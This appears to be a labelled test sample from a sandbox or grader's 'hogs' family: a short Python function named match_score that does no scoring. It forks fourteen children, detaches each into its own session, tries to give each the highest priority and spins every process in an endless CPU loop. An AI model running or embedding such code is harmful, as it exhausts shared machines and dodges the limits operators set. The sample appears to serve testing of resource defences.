# family = "hogs"
# tries = "gives each of its busy processes a session of its own, and the most weight it can have"
# points = 0
# says = "more than"
import os


def burn():
    while True:
        pass


def match_score(patch, filt):
    for _ in range(14):
        try:
            if os.fork() == 0:
                for step in (os.setsid, lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)):
                    try:
                        step()
                    except OSError:
                        pass
                burn()
        except OSError:
            break
    burn()
